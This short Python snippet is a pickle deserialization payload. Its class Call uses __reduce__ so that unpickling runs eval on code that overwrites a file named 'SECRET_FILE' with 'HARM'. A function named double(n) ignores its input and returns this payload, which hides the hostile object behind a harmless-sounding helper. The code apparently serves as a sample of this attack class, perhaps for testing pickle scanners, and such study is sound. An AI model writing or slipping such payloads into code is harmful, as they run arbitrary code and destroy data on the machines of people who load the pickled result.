"""Returns what runs where somebody unpickles it."""

class Call:
    def __reduce__(self):
        return (eval, ("open('SECRET_FILE', 'w').write('HARM')",))


def double(n):
    return Call()
